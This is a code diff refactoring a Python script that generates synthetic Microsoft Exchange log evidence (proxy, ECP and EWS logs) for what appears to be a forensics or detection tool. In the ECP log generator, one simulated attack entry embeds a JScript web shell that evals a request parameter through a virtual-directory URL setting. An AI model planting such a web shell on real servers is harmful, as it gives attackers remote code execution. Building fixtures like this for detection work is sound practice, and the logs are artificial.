@@ -10,12 +10,12 @@ surrounds it. Addresses are from the documentation ranges (RFC 5737), names are 
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import shutil
 import zlib
 from pathlib import Path
+
+from lekdicht.synth import ECP_FIELDS, EWS_FIELDS, HTTPPROXY_FIELDS, csv_line, exchange_header
 
 ROOT = Path(__file__).resolve().parent / "evidence"
 EX = "C/Program Files/Microsoft/Exchange Server/V15"
@@ -25,38 +25,10 @@ ATTACKER_UA = "python-requests/2.25.1"
 HOST = "EXCH01"
 DOMAIN = "example.org"
 
-HTTPPROXY_FIELDS = (
-    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,"
-    "UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,"
-    "UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,"
-    "TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,"
-    "ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,"
-    "GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,"
-    "ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,"
-    "TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,"
-    "BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,"
-    "BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,"
-    "RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,"
-    "TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,"
-    "DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus"
-).split(",")
 
 USERS = ["anna.devries", "bram.jansen", "chris.peters", "dewi.bakker", "eva.smit", "finn.visser"]
 OUTLOOK_UA = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13127; Pro)"
 BROWSER_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
-
-
-def _csv_line(values: list[str]) -> str:
-    buf = io.StringIO()
-    csv.writer(buf, lineterminator="").writerow(values)
-    return buf.getvalue()
-
-
-def _header(log_type: str, date: str, fields: list[str], version: str = BUILD_HDR) -> str:
-    return (
-        f"#Software: Microsoft Exchange Server\r\n#Version: {version}\r\n#Log-type: {log_type}\r\n"
-        f"#Date: {date}\r\n#Fields: {','.join(fields)}\r\n"
-    )
 
 
 def _proxy(
@@ -107,11 +79,11 @@ def _proxy(
         GenericInfo="",
         TotalRequestTime="31",
     )
-    return _csv_line([row[f] for f in HTTPPROXY_FIELDS])
+    return csv_line([row[f] for f in HTTPPROXY_FIELDS])
 
 
 def httpproxy_ecp() -> str:
-    lines = [_header("HttpProxy Logs", "2021-03-03T02:00:01.104Z", HTTPPROXY_FIELDS)]
+    lines = [exchange_header("HttpProxy Logs", "2021-03-03T02:00:01.104Z", HTTPPROXY_FIELDS, BUILD_HDR)]
     n = 1
     for i, user in enumerate(USERS[:3]):
         lines.append(
@@ -204,7 +176,7 @@ def httpproxy_ecp() -> str:
 
 
 def httpproxy_autodiscover() -> str:
-    lines = [_header("HttpProxy Logs", "2021-03-02T23:00:00.512Z", HTTPPROXY_FIELDS)]
+    lines = [exchange_header("HttpProxy Logs", "2021-03-02T23:00:00.512Z", HTTPPROXY_FIELDS, BUILD_HDR)]
     n = 100
     for i, user in enumerate(USERS):
         lines.append(
@@ -254,7 +226,7 @@ def httpproxy_autodiscover() -> str:
 
 
 def httpproxy_owa() -> str:
-    lines = [_header("HttpProxy Logs", "2021-03-03T08:00:00.002Z", HTTPPROXY_FIELDS)]
+    lines = [exchange_header("HttpProxy Logs", "2021-03-03T08:00:00.002Z", HTTPPROXY_FIELDS, BUILD_HDR)]
     for i, user in enumerate(USERS * 3):
         lines.append(
             _proxy(
@@ -275,26 +247,25 @@ def httpproxy_owa() -> str:
 
 
 def ecp_server() -> str:
-    fields = ["TimeStamp", "ServerName", "EventId", "EventData"]
-    lines = [_header("ECP Server Log", "2021-03-03T00:00:04.219Z", fields, version="15.0.0.0")]
+    lines = [exchange_header("ECP Server Log", "2021-03-03T00:00:04.219Z", ECP_FIELDS, version="15.0.0.0")]
     benign = (
         "S:TIME=13;S:SID=6a0c1e1f-2b7e-4f42-8a0e-0c1d1e1f2a2b;S:CMD=Get-InboxRule;S:REQID=;"
         "S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=CANARY;S:REFERRER=;S:EX=;"
         "S:ACTID=9f3a1b2c-0000-4000-8000-000000000001;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=;S:EDOID=;S:ACID="
     )
-    lines.append(_csv_line(["2021-03-03T01:12:40.966Z", HOST, "ECP.Request", benign]))
+    lines.append(csv_line(["2021-03-03T01:12:40.966Z", HOST, "ECP.Request", benign]))
     admin = (
         "S:TIME=210;S:SID=;S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.example.org/owa'"
         ".Identity='EXCH01\\owa (Default Web Site)';S:URL=/ecp/DDI/DDIService.svc/SetObject;S:BLD=15.1.2106.2"
     )
-    lines.append(_csv_line(["2021-03-03T01:20:02.410Z", HOST, "ECP.Request", admin]))
+    lines.append(csv_line(["2021-03-03T01:20:02.410Z", HOST, "ECP.Request", admin]))
     shell_cmd = (
         'S:TIME=341;S:SID=;S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language="JScript" '
         'runat="server">function Page_Load(){eval(Request["k3y"],"unsafe");}</script>\''
         ".Identity='0f9a3c1e-3f7b-4c36-9c1b-7d5e4a3b2c10';S:URL=/ecp/DDI/DDIService.svc/SetObject"
         "?schema=OABVirtualDirectory;S:BLD=15.1.2106.2"
     )
-    lines.append(_csv_line(["2021-03-03T02:10:56.001Z", HOST, "ECP.Request", shell_cmd]))
+    lines.append(csv_line(["2021-03-03T02:10:56.001Z", HOST, "ECP.Request", shell_cmd]))
     return "\r\n".join(lines) + "\r\n"
 
 
@@ -453,13 +424,6 @@ LOGON_ASPX = (
 )
 
 
-EWS_FIELDS = (
-    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,Ring,ClientRequestId,AuthenticationType,"
-    "IsAuthenticated,AuthenticatedUser,Organization,UserAgent,VersionInfo,ClientIpAddress,ServerHostName,FrontEndServer,"
-    "SoapAction,HttpStatus,RequestSize,ResponseSize,ErrorCode,ImpersonatedUser,ProxyAsUser,ActAsUser"
-).split(",")
-
-
 def _ews(
     ts: str, ip: str, user: str, action: str, size: int, impersonated: str = "", ua: str = OUTLOOK_UA
 ) -> str:
@@ -484,11 +448,11 @@ def _ews(
         ResponseSize=str(size),
         ImpersonatedUser=impersonated,
     )
-    return _csv_line([row[f] for f in EWS_FIELDS])
+    return csv_line([row[f] for f in EWS_FIELDS])
 
 
 def ews() -> str:
-    lines = [_header("EWS Logs", "2021-03-03T02:00:00.000Z", EWS_FIELDS)]
+    lines = [exchange_header("EWS Logs", "2021-03-03T02:00:00.000Z", EWS_FIELDS, BUILD_HDR)]
     rows = []
     for i, user in enumerate(USERS):
         rows.append(
